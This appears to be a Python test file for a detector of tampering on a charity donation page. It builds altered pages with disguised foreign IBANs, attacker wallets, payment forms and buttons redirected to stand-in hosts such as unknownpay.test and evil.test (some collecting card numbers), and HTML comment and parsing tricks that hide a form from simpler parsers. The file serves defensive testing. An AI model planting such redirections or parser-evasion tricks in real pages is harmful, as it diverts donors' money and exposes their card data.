"""Money led elsewhere: accounts, wallets, forms and buttons that are not those a person approved."""

# ruff: noqa: E501 -- a line is often a whole page of a server

from __future__ import annotations

from tests.world import wallets
from tests.world.answers import answer
from tests.world.pages import BASELINE, OTHER_IBAN, OUR_IBAN, iban, page
from tests.world.stage import Scene, scenes, serving, variants

GROUPS = [OTHER_IBAN[at : at + 4] for at in range(0, len(OTHER_IBAN), 4)]
ELSEWHERE = "https://unknownpay.test/collect"
FULL_WIDTH = {code: code + 0xFEE0 for code in range(0x21, 0x7F)}


def changed(before: str, *after: str) -> Scene:
    """Approved with one thing on the page, found with another in its place."""

    return variants(*(answer(200, page(extra=each)) for each in after), approved=answer(200, page(extra=before)))


def added(*extras: str) -> Scene:
    """The page as approved, with more on it."""
    return variants(*(answer(200, page(extra=extra)) for extra in extras))


def in_place_of_form(*forms: str) -> Scene:
    """The page as approved, but for its form."""
    start, end = BASELINE.index("<form"), BASELINE.index("</form>") + len("</form>")
    return variants(*(answer(200, BASELINE[:start] + form + BASELINE[end:]) for form in forms))


def button(target: str, word: str = "Donate now") -> str:
    return f'<a class="btn btn-primary" href="{target}">{word}</a>'


FOREIGN_ACCOUNTS = (
    iban("DE", "000000000000000011"),
    iban("FR", "00000000000000000000011"),
    iban("UA", "0000000000000000000000011"),
    iban("PL", "000000000000000000000011"),
    iban("TR", "0000000000000000000011"),
    iban("LT", "0000000000000011"),
    iban("GE", "TE0000000000000011"),
    iban("NO", "00000000011"),
)
ACCOUNTS = {
    "account-groups": variants(
        *(
            answer(200, page(account=mark.join(GROUPS)))
            for mark in ("\u00a0", "\u202f", "\u2009", "\u200b", "\u2060", "\ufeff", "&shy;", "-", ".", "&ensp;", "<wbr>")
        )
    ),
    "account-in-tags": variants(
        answer(200, page(account="".join(f"<span>{group}</span>" for group in GROUPS))),
        answer(200, page(account="</span> <span>".join(GROUPS))),
        answer(200, page(account="".join(f"<i>{letter}</i>" for letter in OTHER_IBAN))),
        answer(200, page(account="<br>".join(GROUPS))),
    ),
    "account-in-entities": variants(
        answer(200, page(account="".join(f"&#{ord(letter)};" for letter in OTHER_IBAN))),
        answer(200, page(account="".join(f"&#x{ord(letter):x};" for letter in OTHER_IBAN))),
    ),
    "account-mixed-case": serving(answer(200, page(account=OTHER_IBAN[:8].lower() + OTHER_IBAN[8:]))),
    "account-full-width": serving(answer(200, page(account=OTHER_IBAN.translate(FULL_WIDTH)))),
    "account-after-label": variants(
        answer(200, page(account=f"IBAN:{OTHER_IBAN}")),
        answer(200, page(account=f"IBAN{OTHER_IBAN}")),
        answer(200, page(account=f"({OTHER_IBAN})")),
        answer(200, page(account=f"№{OTHER_IBAN}։")),
    ),
    "account-of-another-country": added(*(f"<p>From abroad: {account}</p>" for account in FOREIGN_ACCOUNTS)),
    "account-behind-copy-button": added(
        f'<button data-clipboard-text="{OTHER_IBAN}">Copy account number</button>',
        f'<input readonly value="{OTHER_IBAN}">',
        f'<button onclick="navigator.clipboard.writeText(\'{OTHER_IBAN}\')">Copy</button>',
    ),
    "account-in-head": variants(
        answer(200, page(in_head=f'<meta name="description" content="Give to {OTHER_IBAN}">')),
        answer(200, page(in_head=f'<meta property="og:description" content="IBAN: {OTHER_IBAN}">')),
    ),
    "account-in-table": added(
        f"<table><tr><th>IBAN</th><td>{' '.join(GROUPS)}</td></tr><tr><th>BIC</th><td>TESTGB00</td></tr></table>",
        f"<dl><dt>IBAN</dt><dd>{OTHER_IBAN}</dd></dl>",
        f"<svg><text x='0' y='9'>{OTHER_IBAN}</text></svg>",
        f"<textarea readonly>{OTHER_IBAN}</textarea>",
        f"<noscript>{OTHER_IBAN}</noscript>",
    ),
    "account-replaced-by-foreign": serving(answer(200, page(account=FOREIGN_ACCOUNTS[0]))),
    "account-swapped-in-redesign": serving(
        answer(
            200,
            page(
                title="Charity | Support us", heading="Support our work",
                text="Our winter appeal is open. Your gift brings heating and warm meals to mountain villages. " * 4,
                account=OTHER_IBAN,
            ),
        )
    ),
    "card-number-added": added("<p>Or to our card: 4000 0000 0000 0002</p>"),
}  # fmt: skip
OURS_BTC, THEIRS_BTC = wallets.segwit("ours"), wallets.segwit("theirs")
WALLETS = {
    "wallet-bech32": added(
        f"<p>BTC: {THEIRS_BTC}</p>",
        f"<p>{THEIRS_BTC.upper()}</p>",
        f'<a href="bitcoin:{THEIRS_BTC}?amount=0.01">Bitcoin</a>',
    ),
    "wallet-taproot": added(f"<p>Taproot: {wallets.segwit('theirs', version=1)}</p>"),
    "wallet-script-hash": added(f"<code>{wallets.script_hash('theirs')}</code>"),
    "wallet-tron": added(f"<p>USDT (TRC-20): {wallets.tron('theirs')}</p>"),
    "wallet-ether-spellings": added(
        f"<p>ETH 0x{'ABCDEF0123' * 4}</p>",
        f'<a href="ethereum:0x{"1a2b3c4d5e" * 4}@1">Ether</a>',
        f'<button data-address="0x{"1a2b3c4d5e" * 4}">Copy</button>',
    ),
    "wallet-swapped": changed(f"<p>BTC: {OURS_BTC}</p>", f"<p>BTC: {THEIRS_BTC}</p>"),
    "wallet-other-chains": added(
        f"<p>LTC: {wallets.litecoin('theirs')}</p>",
        f"<p>LTC: {wallets.segwit('theirs', part='ltc')}</p>",
        f"<p>DOGE: {wallets.dogecoin('theirs')}</p>",
        f"<p>SOL: {wallets.solana('theirs')}</p>",
    ),
    "wallet-in-script-data": added(f"<script>var wallet = '0x{'1a2b3c4d5e' * 4}';</script>"),
}
FORMS = {
    "form-spellings": variants(
        *(
            answer(200, page(form=target))
            for target in (
                "//unknownpay.test/collect",
                "HTTPS://UNKNOWNPAY.TEST/collect",
                " https://unknownpay.test/collect ",
                "https&#58;&#47;&#47;unknownpay.test/collect",
                "https://unknown\npay.test/collect",
                "ht\ttps://unknownpay.test/collect",
                "https:\\\\unknownpay.test\\collect",
                "https:unknownpay.test/collect",
                "https:/unknownpay.test/collect",
                "///unknownpay.test/collect",
                "https://payment.test@unknownpay.test/collect",
                "https://payment.test:pay@unknownpay.test/",
                "https://payment.test.evil.test/pay",
                "https://unknownpay.test.:443/collect",
                "https://unknownpay。test/collect",
            )
        )
    ),
    "form-hidden-attributes": in_place_of_form(
        f'<form action="{ELSEWHERE}" action="https://payment.test/pay" method="post"><button>Donate</button></form>',
        f'<FORM ACTION="{ELSEWHERE}" METHOD=POST><BUTTON>Donate</BUTTON></FORM>',
        f"<form action={ELSEWHERE} method=post><button>Donate</button></form>",
        f'<form/action="{ELSEWHERE}"/method="post"><button>Donate</button></form>',
        f"<form\n\taction\n=\n'{ELSEWHERE}'><button>Donate</button></form>",
    ),
    "form-second": added(
        f'<form action="{ELSEWHERE}" method="post"><input name="card"><button>Give</button></form>',
        f'<form action="{ELSEWHERE}"><button>Give by card</button></form>',
    ),
    "form-submitters": added(
        f'<form action="https://payment.test/pay" id="f"></form><button form="f" formaction="{ELSEWHERE}">Give</button>',
        f'<form action="https://payment.test/pay"><input type="submit" formaction="{ELSEWHERE}" value="Give"></form>',
        f'<form action="https://payment.test/pay"><input type="image" src="/d.png" formaction="{ELSEWHERE}"></form>',
    ),
    "form-under-base": variants(
        answer(200, page(form="/pay", in_head='<base href="https://unknownpay.test/">')),
        answer(200, page(form="pay", in_head='<BASE HREF=//unknownpay.test/x/ target="_top">')),
        answer(
            200, page(form="/pay", in_head='<base href="https://unknownpay.test/"><base href="https://payment.test/">')
        ),
        approved=answer(200, page(form="/pay", in_head='<base href="https://payment.test/">')),
    ),
    "form-moved-by-script": added(
        f"<script>document.forms[0].action = '{ELSEWHERE}';</script>",
        f"<script>document.querySelector('form').setAttribute('action', '{ELSEWHERE}')</script>",
    ),
    "frame-by-other-means": added(
        f'<iframe srcdoc="<form action=&quot;{ELSEWHERE}&quot;><input name=card></form>"></iframe>',
        f'<object data="{ELSEWHERE}" type="text/html" width="100%"></object>',
        f'<embed src="{ELSEWHERE}" type="text/html">',
        f'<IFRAME SRC={ELSEWHERE}></IFRAME>',
        f"<iframe src=\"data:text/html,<form action='{ELSEWHERE}'><input name=card></form>\"></iframe>",
    ),
}  # fmt: skip
COMMENTED = f'<form action="{ELSEWHERE}" method="post"><input name="card"><button>Give</button></form>'
# What a browser reads and a simpler reader does not: where a comment ends, and what is one.
READERS = {
    "form-behind-comment-tricks": added(
        f"<!-->{COMMENTED}-->",
        f"<!--->{COMMENTED}-->",
        f"<!-- note --!>{COMMENTED}<!-- -->",
        f"<![CDATA[ x > ]]>{COMMENTED}",
        f"<![CDATA[>{COMMENTED}]]>",
        f"<?x >{COMMENTED}<? ?>",
        f"<!x>{COMMENTED}",
        f"</ x>{COMMENTED}",
    ),
    "form-behind-raw-text": added(
        f"<title></title>{COMMENTED}",
        f"<svg><title>a</title></svg>{COMMENTED}",
        f"<script>var a = '<!--';</script>{COMMENTED}<!-- -->",
        f"<style><!--</style>{COMMENTED}<!-- -->",
        f"<noscript><!--</noscript>{COMMENTED}<!-- -->",
        f'<a title="</a><!--">x</a>{COMMENTED}<!-- -->',
    ),
}
BUTTONS = {
    "button-elsewhere": changed(button("https://payment.test/give"), button("https://unknownpay.test/give")),
    "button-added": added(
        button("https://unknownpay.test/give"),
        button("https://unknownpay.test/give", "Faire un don"),
        button("https://unknownpay.test/give", "Пожертвовать"),
        button("https://unknownpay.test/give", "Նվիրաբերել"),
    ),
    "button-by-handler": added(
        "<button onclick=\"location.href='https://unknownpay.test/give'\">Donate</button>",
        "<button onclick=\"window.open('https://unknownpay.test/give')\">Donate</button>",
    ),
    "paypal-me": changed(button("https://www.paypal.me/ours"), button("https://paypal.me/theirs")),
    "paypal-e-mail": changed(
        '<form action="https://www.paypal.com/cgi-bin/webscr"><input type="hidden" name="business" value="a@charity.test"></form>',
        '<form action="https://www.paypal.com/cgi-bin/webscr"><input type="hidden" name="business" value="b@evil.test"></form>',
        '<form action="https://www.paypal.com/cgi-bin/webscr"><input name=business value=b@evil.test type=hidden></form>',
    ),
    "paypal-links": changed(
        button("https://www.paypal.com/donate?campaign_id=OURS1"),
        button("https://www.paypal.com/donate?campaign_id=THEIRS2"),
        button("https://www.paypal.com/cgi-bin/webscr?cmd=_donations&amp;business=b%40evil.test"),
        button("https://www.paypal.com/paypalme/theirs"),
        button("https://www.paypal.com/ncp/payment/THEIRS2"),
    ),
    "platform-tenant-swapped": changed(
        '<iframe src="https://donorbox.org/embed/ours"></iframe>', '<iframe src="https://donorbox.org/embed/theirs"></iframe>'
    ),
    "payment-links-swapped": variants(
        answer(200, page(extra=button("https://buy.stripe.com/theirs"))),
        answer(200, page(extra=button("https://donate.stripe.com/theirs"))),
        approved=answer(200, page(extra=button("https://buy.stripe.com/ours"))),
    ),
}  # fmt: skip
DISGUISED = {
    "account-kept-and-hidden": serving(
        answer(200, page(account=f'<span style="display:none">{OUR_IBAN}</span>{OTHER_IBAN}'))
    ),
    "account-in-commented-page": serving(
        answer(200, page(account="", form="", extra=f"<!-- {OUR_IBAN} https://payment.test/pay --><p>{OTHER_IBAN}</p>"))
    ),
}
scenes(ACCOUNTS | WALLETS | FORMS | READERS | BUTTONS | DISGUISED)
